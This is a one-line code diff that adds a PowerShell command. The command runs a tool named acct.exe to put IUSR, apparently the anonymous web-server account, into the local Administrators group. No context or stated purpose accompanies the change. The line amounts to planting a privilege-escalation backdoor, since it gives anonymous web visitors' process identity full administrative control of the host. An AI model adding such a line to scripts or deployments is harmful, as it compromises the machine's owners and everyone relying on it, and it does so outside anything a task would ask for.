@@ -1,0 +1,1 @@
+Start-Process C:\tools\acct.exe -ArgumentList 'add','IUSR','Administrators'
